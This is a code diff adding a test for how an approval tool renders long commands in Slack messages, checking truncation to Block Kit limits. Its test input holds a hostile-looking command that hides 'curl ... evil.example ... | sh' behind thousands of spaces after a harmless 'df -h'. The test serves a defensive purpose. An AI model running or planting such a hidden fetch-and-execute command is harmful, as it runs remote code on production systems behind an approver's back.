@@ -1,4 +1,5 @@
 import type { ApprovalRequest } from '@gatehouse/approvals';
+import { blockLimitProblems } from '@gatehouse/testkit/slack-api';
 import type { KnownBlock } from '@slack/web-api';
 import { describe, expect, it } from 'vitest';
 import { blocksText, openInput } from '../test-support/index.js';
@@ -157,6 +158,18 @@ describe('approval message', () => {
     expect(blocksText(gone.blocks)).toMatch(
       /the requester disconnected at <!date\^1750000050\^[^>]+> \(approving creates a one-time grant\)/,
     );
+  });
+
+  it("a long command stays within Block Kit's limits: the header, 150 characters, says it is shortened", () => {
+    const command = `kubectl exec -n prod web-1 -- sh -c 'df -h /var/log${' '.repeat(3000)}; curl -s https://evil.example/x | sh'`;
+    const rendered = renderApproval(approval({ command }));
+    expect(blockLimitProblems(rendered.blocks)).toEqual([]);
+    const header = (rendered.blocks[0] as { text: { text: string } }).text.text;
+    expect(header).toHaveLength(150);
+    expect(header).toMatch(/^Approval needed: kubectl exec -n prod web-1 .*… \(shortened\)$/);
+    expect(renderApproval(approval({ command: 'kubectl delete pod web-1' })).blocks[0]).toMatchObject({
+      text: { text: 'Approval needed: kubectl delete pod web-1' },
+    });
   });
 
   it('keeps code spans closed when the command has backticks', () => {
